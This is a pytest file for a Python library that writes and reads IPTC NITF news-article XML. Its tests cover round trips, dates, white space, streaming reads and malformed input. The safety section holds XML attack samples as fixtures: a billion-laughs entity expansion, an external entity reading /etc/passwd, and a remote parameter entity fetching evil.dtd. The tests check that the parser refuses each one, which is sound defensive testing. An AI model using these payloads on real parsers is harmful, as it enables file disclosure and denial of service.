"""Tests of newsmodel.io.nitf: IPTC NITF 3.6 written, validated and read back safely."""

from __future__ import annotations

import datetime as dt
import io
import re
import warnings

import attrs
import pytest
from hypothesis import given, settings

import newsmodel
from newsmodel import (
    Article,
    Attribution,
    Byline,
    FormatError,
    Paragraph,
    ParagraphKind,
    Quotation,
    QuoteKind,
    Span,
    Speaker,
)
from newsmodel.io import nitf
from newsmodel.io._xml import CHUNK_SIZE
from tests import iptc
from tests.conftest import corpus
from tests.io_articles import (
    Finder,
    articles,
    lighthouse,
    located_view,
    mangled,
    paragraph_view,
    paragraphs_of,
    quotation_view,
)


def without_sentences(article: Article) -> Article:
    """The article with its paragraphs' sentences dropped (readers split sentences anew)."""
    return attrs.evolve(
        article, paragraphs=[attrs.evolve(p, sentences=()) for p in article.paragraphs]
    )


def test_document_uses_the_nitf_elements() -> None:
    """Headline, byline, dateline, subheading, caption, quotation and credit use NITF's elements."""
    doc = newsmodel.dumps(lighthouse(), format="nitf")
    assert '<nitf xmlns="http://iptc.org/std/NITF/2006-10-18/"' in doc
    assert "<hedline><hl1>Harbour town votes to keep its lighthouse lit</hl1></hedline>" in doc
    assert "By <person>Amara Okafor</person> and <person>Tom Reyes</person>" in doc
    assert "<location>PORT ELLIN, Nova Scotia</location> (Coastal Wire) —</dateline>" in doc
    assert "<hl2>A new budget</hl2>" in doc
    assert "<media-caption>Ruth Calder speaks to residents" in doc
    assert '<q class="direct" quote-source="Ruth Calder"' in doc
    assert '<person value="Ruth Calder" nm:id="m4">She</person>' in doc
    assert '<tagline type="std">Reporting by Amara Okafor; Editing by Lena Fischer</tagline>' in doc
    assert '<date.issue norm="20240305T143000-0400"/>' in doc


def test_document_is_valid_against_the_xsd() -> None:
    """The written document validates against IPTC's NITF 3.6 XSD."""
    if not iptc.available():
        pytest.skip(iptc.MISSING)
    iptc.validate_nitf(newsmodel.dumps(lighthouse(), format="nitf"))


@pytest.mark.parametrize("separator", ["\n\n", "\n", "\r\n", "\r\n\r\n"])
def test_round_trip_rebuilds_the_article(separator: str) -> None:
    """Reading back gives the same article: text, paragraphs, quotations, byline, dateline."""
    a = lighthouse(separator)
    b = newsmodel.loads(newsmodel.dumps(a, format="nitf"), format="nitf")
    assert without_sentences(b) == a


@settings(max_examples=150, deadline=None)
@given(articles())
def test_random_articles_round_trip(article: Article) -> None:
    """Any article reads back with its paragraphs, quotations, speakers, byline and dateline."""
    b = newsmodel.loads(newsmodel.dumps(article, format="nitf"), format="nitf")
    assert paragraph_view(b) == paragraph_view(article)
    assert quotation_view(b) == quotation_view(article)
    assert located_view(b) == located_view(article)


def test_overlapping_mention_and_cue_survive() -> None:
    """A speaker mention that contains the cue (NITF's person cannot) still reads back."""
    text = "Officials said to have resigned denied it."
    f = Finder(text)
    mention = f.mention("Officials said to have resigned")
    cue = f.mention("said")
    quotation = Quotation(
        f.span("denied it"),
        "denied it",
        QuoteKind.INDIRECT,
        Attribution(Speaker("officials", mention=mention), cue),
        0,
    )
    a = Article(text=text, paragraphs=[Paragraph(Span(0, len(text)), text)], quotations=[quotation])
    doc = newsmodel.dumps(a, format="nitf")
    assert '<nm:span nm:role="speaker"' in doc
    assert without_sentences(newsmodel.loads(doc, format="nitf")) == a


def test_control_characters_in_paragraphs_survive() -> None:
    """Characters XML cannot carry are written as nm:char elements and read back."""
    text = "Tab\x0bbed \x00text.\n\nNext\x1b one."
    a = Article(
        text=text,
        paragraphs=paragraphs_of(text, [ParagraphKind.BODY] * 2, "\n\n"),
        quotations=[Quotation(Span(4, 11), text[4:11], QuoteKind.SCARE, paragraph=0)],
    )
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        doc = newsmodel.dumps(a, format="nitf")
    assert '<nm:char code="B"/>' in doc
    assert without_sentences(newsmodel.loads(doc, format="nitf")) == a


def test_control_characters_in_metadata_are_replaced_with_a_warning() -> None:
    """Where no element can stand for them, such characters become U+FFFD, with a warning."""
    a = Article(text="Body.", headline="Bell\x07 rings")
    with pytest.warns(UserWarning, match=r"character\(s\) that XML 1.0 cannot carry"):
        doc = newsmodel.dumps(a, format="nitf")
    assert newsmodel.loads(doc, format="nitf").headline == "Bell\ufffd rings"


def test_dates_and_language_round_trip() -> None:
    """Published and modified dates (to the second) and the language read back."""
    a = attrs.evolve(
        lighthouse(),
        published=dt.datetime(2024, 3, 5, 14, 30, 15, tzinfo=dt.timezone.utc),
        language="fr-CA",
    )
    b = newsmodel.loads(newsmodel.dumps(a, format="nitf"), format="nitf")
    assert (b.published, b.modified, b.language, b.url) == (a.published, a.modified, "fr-CA", a.url)
    assert (b.authors, b.contributors) == (a.authors, a.contributors)


#: A UTC offset with seconds: local mean time, as Amsterdam kept it until 1937.
AMSTERDAM_1930 = dt.timezone(dt.timedelta(minutes=19, seconds=32))


@pytest.mark.parametrize(
    "moment",
    [
        dt.datetime(1930, 5, 1, 12, 0, tzinfo=AMSTERDAM_1930),
        dt.datetime(2024, 3, 5, 14, 30, 15, 250000, tzinfo=dt.timezone.utc),
        dt.datetime(999, 12, 31, 23, 59, 59),
        dt.datetime(45, 3, 15, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=1))),
    ],
    ids=["offset-with-seconds", "microseconds", "year-999", "year-45"],
)
def test_every_date_the_model_holds_reads_back_exactly(moment: dt.datetime) -> None:
    """A UTC offset with seconds, microseconds and years before 1000 come back exactly:
    ``norm`` says what NITF can, ``nm:datetime`` the rest."""
    a = attrs.evolve(lighthouse(), published=moment, modified=moment)
    b = newsmodel.loads(newsmodel.dumps(a, format="nitf"), format="nitf")
    for read in (b.published, b.modified):
        assert read == moment
        assert read is not None
        assert read.utcoffset() == moment.utcoffset()
        assert read.isoformat() == moment.isoformat()


def test_norm_of_an_offset_with_seconds_is_the_same_moment_in_utc() -> None:
    """Readers that know only NITF's norm read the right moment, not one 32 seconds off."""
    a = Article(text="Body.", published=dt.datetime(1930, 5, 1, 12, 0, tzinfo=AMSTERDAM_1930))
    doc = newsmodel.dumps(a, format="nitf")
    assert 'norm="19300501T114028Z"' in doc


@pytest.mark.parametrize(
    "gap", ["\n\xa0\n", "\xa0", "\n\u2003\n\n", "\n\x0b\n", "\u3000\r\n"], ids=repr
)
def test_white_space_between_paragraphs_that_xml_does_not_know_survives(gap: str) -> None:
    """No-break spaces and other white space between paragraphs, which NITF's body.content
    cannot hold as text, go in the next block's nm:gap: the document is valid NITF and the
    text reads back as it was."""
    text = f"First paragraph here.{gap}Second one follows.{gap}Reporting by Ann Lee"
    a = Article(
        text=text,
        paragraphs=paragraphs_of(
            text, [ParagraphKind.BODY, ParagraphKind.BODY, ParagraphKind.CREDIT], gap
        ),
        contributors=("Ann Lee",),
    )
    doc = newsmodel.dumps(a, format="nitf")
    if iptc.available():
        iptc.validate_nitf(doc)
    b = newsmodel.loads(doc, format="nitf")
    assert b.text == text
    assert without_sentences(b) == a


def test_control_characters_in_a_speaker_mention_keep_the_document_valid() -> None:
    """A mention or cue holding a character XML cannot carry is written as nm:span, since
    NITF's person, org and event hold no other elements."""
    text = 'Ann\x01Lee said: "Yes."'
    found = Finder(text)
    quotation = Quotation(
        found.span("Yes."),
        "Yes.",
        QuoteKind.DIRECT,
        Attribution(Speaker("Ann Lee", mention=found.mention("Ann\x01Lee")), found.mention("said")),
        0,
    )
    a = Article(text=text, paragraphs=[Paragraph(Span(0, len(text)), text)], quotations=[quotation])
    doc = newsmodel.dumps(a, format="nitf")
    assert '<nm:span nm:role="speaker"' in doc
    assert without_sentences(newsmodel.loads(doc, format="nitf")) == a


def test_article_without_paragraphs_keeps_its_text() -> None:
    """An article with no paragraphs is written as one body paragraph holding its text."""
    b = newsmodel.loads(
        newsmodel.dumps(Article(text="\nJust this.\n"), format="nitf"), format="nitf"
    )
    assert paragraph_view(b) == [("Just this.", ParagraphKind.BODY)]


def test_byline_outside_paragraphs_is_placed_before_them() -> None:
    """A byline no paragraph holds is read back in front of the paragraphs, outside them."""
    text = "By Ann Lee\n\nThe vote passed."
    a = Article(
        text=text,
        byline=newsmodel.Byline(Span(0, 10), "By Ann Lee", ("Ann Lee",)),
        authors=("Ann Lee",),
        paragraphs=[Paragraph(Span(12, 28), text[12:])],
    )
    assert without_sentences(newsmodel.loads(newsmodel.dumps(a, format="nitf"), format="nitf")) == a


# --- reading other documents -----------------------------------------------------------------

OLD_NITF = """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE nitf SYSTEM "nitf-3-2.dtd">
<nitf>
  <head><title>Port strike ends</title>
    <docdata><date.issue norm="20240110T093000Z"/></docdata></head>
  <body>
    <body.head>
      <hedline><hl1>Dockers return to work</hl1><hl2>Deal reached overnight</hl2></hedline>
      <byline>By <person>Sam Field</person><byttl>Harbour Press</byttl></byline>
      <dateline><location><city>ROTTERDAM</city></location>, <story.date>Jan 10</story.date></dateline>
      <abstract><p>Summary not read.</p></abstract>
    </body.head>
    <body.content>
      <p>Dockers went back to work on Wednesday, ending a week-long strike.</p>
      <p>"<q quote-source="Union leader Mia Brandt">We got what we asked for</q>," the union said.</p>
      <media media-type="image"><media-reference source="a.jpg"/><media-caption>Cranes idle at the port.</media-caption></media>
      <table><tr><td>Day one</td><td>Day two</td></tr></table>
    </body.content>
    <body.end><tagline>Reporting by Sam Field, caf\xe9 desk</tagline></body.end>
  </body>
</nitf>
"""


def test_older_nitf_without_namespace_is_read() -> None:
    """NITF 3.2 with a DOCTYPE and no namespace reads into an Article."""
    b = newsmodel.loads(OLD_NITF.encode("latin-1"), format="nitf")
    assert b.headline == "Dockers return to work"
    assert b.published == dt.datetime(2024, 1, 10, 9, 30, tzinfo=dt.timezone.utc)
    assert b.byline is not None
    assert (b.byline.text, b.byline.authors, b.byline.organisation) == (
        "By Sam FieldHarbour Press",
        ("Sam Field",),
        "Harbour Press",
    )
    assert b.dateline is not None
    assert (b.dateline.text, b.dateline.location, b.dateline.date) == (
        "ROTTERDAM, Jan 10",
        "ROTTERDAM",
        "Jan 10",
    )
    assert paragraph_view(b) == [
        ("Deal reached overnight", ParagraphKind.HEADING),
        ("Dockers went back to work on Wednesday, ending a week-long strike.", ParagraphKind.BODY),
        ('"We got what we asked for," the union said.', ParagraphKind.BODY),
        ("Cranes idle at the port.", ParagraphKind.CAPTION),
        ("Day one", ParagraphKind.BODY),
        ("Day two", ParagraphKind.BODY),
        ("Reporting by Sam Field, café desk", ParagraphKind.CREDIT),
    ]
    assert [(q.text, q.speaker.name if q.speaker else None) for q in b.quotations] == [
        ("We got what we asked for", "Union leader Mia Brandt")
    ]
    assert b.text.startswith("By Sam FieldHarbour Press\n\nROTTERDAM, Jan 10\n\nDeal reached")


# --- safety and malformed input ------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE nitf [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nitf><body><body.content><p>&lol3;</p></body.content></body></nitf>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<nitf/>"""

UNDEFINED_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf SYSTEM "nitf-3-2.dtd">
<nitf><body><body.content><p>Caf&eacute;</p></body.content></body></nitf>"""


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (
            BILLION_LAUGHS,
            r"nitf at line 2, column [0-9]+: a document type declaration with an internal subset is refused",
        ),
        (EXTERNAL_ENTITY, r"internal subset is refused"),
        (PARAMETER_ENTITY, r"internal subset is refused"),
        (
            UNDEFINED_ENTITY,
            r"line 3, .*/nitf/body/body.content/p\): the entity &eacute; is not defined",
        ),
        (
            "<nitf><body><p>Open</body></nitf>",
            r"nitf at line 1, column 22 \(/nitf/body/p\): malformed XML: mismatched tag",
        ),
        ("<nitf><body>", r"malformed XML: no element found"),
        ("", r"malformed XML: no element found"),
        (
            "<html><body/></html>",
            r"line 1, column 1 \(/html\): the root element is <html>, not NITF's <nitf>",
        ),
        ('<nitf xmlns="urn:other"/>', r"the root element is <nitf> in namespace urn:other"),
        ("<nitf>&#0;</nitf>", r"malformed XML: reference to invalid character number"),
        (
            '<nitf><head><docdata><date.issue norm="soon"/></docdata></head></nitf>',
            r"'soon' is not a date",
        ),
    ],
)
def test_unsafe_and_malformed_documents_are_refused(document: str, message: str) -> None:
    """Entity tricks, broken XML and wrong roots raise FormatError naming line, column and path."""
    with pytest.raises(FormatError, match=message):
        newsmodel.loads(document, format="nitf")


def test_an_encoding_python_does_not_know_is_a_format_error() -> None:
    """An XML declaration naming an unknown encoding ("TTF-8", a flipped byte) is refused
    with a FormatError, not a LookupError."""
    document = b'<?xml version="1.0" encoding="TTF-8"?><nitf><body/></nitf>'
    with pytest.raises(FormatError, match="nitf at the XML declaration: malformed XML"):
        newsmodel.loads(document, format="nitf")


def test_entity_declaration_is_refused_even_in_bytes() -> None:
    """The same refusal holds for bytes input in another encoding."""
    with pytest.raises(FormatError, match="internal subset"):
        newsmodel.loads(BILLION_LAUGHS.encode("utf-16"), format="nitf")


class TrickleFile(io.RawIOBase):
    """A file that returns at most ``step`` bytes a read and records the sizes asked for."""

    def __init__(self, data: bytes, step: int) -> None:
        self.data = data
        self.position = 0
        self.step = step
        self.asked: list[int] = []

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        self.asked.append(size)
        n = self.step if size < 0 else min(size, self.step)
        piece = self.data[self.position : self.position + n]
        self.position += len(piece)
        return piece


def test_load_streams_a_file_in_bounded_pieces() -> None:
    """load() reads a file in pieces of bounded size (never whole), splitting characters safely."""
    document = newsmodel.dumps(lighthouse(), format="nitf").encode("utf-8")
    source = TrickleFile(document, step=7)
    b = nitf.load(source)  # type: ignore[arg-type]
    assert without_sentences(b) == lighthouse()
    assert len(source.asked) > len(document) // 7
    assert all(0 < size <= CHUNK_SIZE for size in source.asked)


def test_loads_feeds_large_documents_in_chunks() -> None:
    """A document larger than one chunk reads the same as a small one would."""
    a = lighthouse()
    big = Article(text=(a.text + "\n\n") * 60)
    paragraphs = newsmodel.parse_text(big.text).paragraphs
    big = attrs.evolve(big, paragraphs=paragraphs)
    document = newsmodel.dumps(big, format="nitf")
    assert len(document) > CHUNK_SIZE
    assert paragraph_view(newsmodel.loads(document, format="nitf")) == paragraph_view(big)


class CountingFile(io.RawIOBase):
    """A file that records how much it was asked for, a read at a time."""

    def __init__(self, data: bytes) -> None:
        self.data = io.BytesIO(data)
        self.asked: list[int] = []

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        self.asked.append(size)
        return self.data.read(size)


@pytest.mark.parametrize("megabytes", [2, 8])
def test_a_huge_attribute_is_read_in_pieces_that_grow_with_it(megabytes: int) -> None:
    """While expat holds one token longer than a piece (a huge attribute value), the next
    piece is twice as long, so the token is scanned a few times rather than once a piece
    (which made a 50 MB attribute take 21 s): the number of reads grows with the logarithm
    of its length."""
    a = Article(text="Short story.", language="x" * (megabytes << 20))
    document = newsmodel.dumps(a, format="nitf").encode("utf-8")
    source = CountingFile(document)
    assert nitf.load(source).language == a.language  # type: ignore[arg-type]
    linear = len(document) // CHUNK_SIZE
    assert len(source.asked) <= 2 * (linear.bit_length() + 2)
    assert max(source.asked) <= 2 * len(document)


def test_pieces_of_an_ordinary_document_stay_small() -> None:
    """Without a huge token, a document is read a CHUNK_SIZE at a time."""
    big = Article(text="The vote passed. " * 40_000)
    source = CountingFile(newsmodel.dumps(big, format="nitf").encode("utf-8"))
    nitf.load(source)  # type: ignore[arg-type]
    assert set(source.asked) == {CHUNK_SIZE}


# --- corpora -------------------------------------------------------------------------------------


def sample(folder: str, pattern: str, step: int) -> list[str]:
    path = iptc.SHARED / "corpora" / folder
    return [str(p) for p in sorted(path.glob(pattern))[::step]] or [f"(no {folder})"]


@pytest.mark.parametrize("path", sample("bbc", "*/*[0-9]5.txt", 9))
def test_bbc_articles_round_trip(path: str) -> None:
    """BBC articles parsed with parse_text read back with the same paragraphs."""
    text = corpus("bbc").joinpath(path).read_bytes().decode("utf-8", "replace")
    a = newsmodel.parse_text(text)
    b = newsmodel.loads(newsmodel.dumps(a, format="nitf"), format="nitf")
    assert paragraph_view(b) == paragraph_view(a)
    assert located_view(b) == located_view(a)
    assert quotation_view(b) == quotation_view(a)


@pytest.mark.parametrize("path", sample("polnear/dev", "*.ann", 6))
def test_polnear_quotations_round_trip(path: str) -> None:
    """PolNeAR articles with their annotated quotations and sources read back unchanged."""
    corpus("polnear", "dev")
    text = re.sub(r"_[0-9a-f]{4}\.ann$", ".txt", path)
    with open(text, encoding="utf-8") as f:
        article_text = f.read()
    with open(path, encoding="utf-8") as f:
        a = newsmodel.loads(f.read(), format="brat", text=article_text)
    assert a.quotations
    b = newsmodel.loads(newsmodel.dumps(a, format="nitf"), format="nitf")
    assert paragraph_view(b) == paragraph_view(a)
    assert quotation_view(b) == quotation_view(a)


@settings(max_examples=300, deadline=None)
@given(mangled(newsmodel.dumps(lighthouse(), format="nitf")))
def test_mangled_documents_read_or_fail_cleanly(document: str) -> None:
    """A damaged document either reads into an Article or raises FormatError, nothing else."""
    try:
        article = newsmodel.loads(document, format="nitf")
    except FormatError:
        return
    assert isinstance(article, Article)


@pytest.mark.parametrize("space", ["\r", " ", "\t", "\u2003"])
def test_a_byline_paragraph_opening_with_white_space_reads_back(space: str) -> None:
    """A byline whose paragraph opens with white space (a carriage return left by a
    scraper) reads back from NITF and ninjs found in the body, its span on its words,
    not before the text's start (found by bench/fuzz.py)."""
    text = f"{space}By Ann Lee\n\nThe ferry sailed on Monday."
    byline_end = text.index("\n")
    article = Article(
        text=text,
        byline=Byline(Span(0, byline_end), text[:byline_end], ("Ann Lee",)),
        paragraphs=[
            Paragraph(Span(0, byline_end), text[:byline_end], ParagraphKind.BYLINE),
            Paragraph(Span(byline_end + 2, len(text)), text[byline_end + 2 :], ParagraphKind.BODY),
        ],
    )
    for format in ("nitf", "ninjs"):
        back = newsmodel.loads(newsmodel.dumps(article, format=format), format=format)
        assert back.byline is not None, format
        assert back.byline.text == "By Ann Lee", format
        assert back.text[back.byline.span.start : back.byline.span.end] == "By Ann Lee", format


def test_a_byline_that_the_head_alone_would_not_place_is_marked_in_the_body() -> None:
    """A byline of its author's name alone, inside a paragraph that does not open a line
    ("0\\t\\n  1", the byline "1" by "1"): body.head's text would not place it, so the
    body marks it, and it reads back where it was (it was lost)."""
    text = "0\t\n  1"
    a = Article(
        text=text,
        byline=Byline(Span(5, 6), "1", ("1",)),
        paragraphs=[Paragraph(Span(0, 1), "0"), Paragraph(Span(5, 6), "1")],
    )
    doc = newsmodel.dumps(a, format="nitf")
    assert 'nm:role="byline"' in doc
    b = newsmodel.loads(doc, format="nitf")
    assert b.byline == a.byline
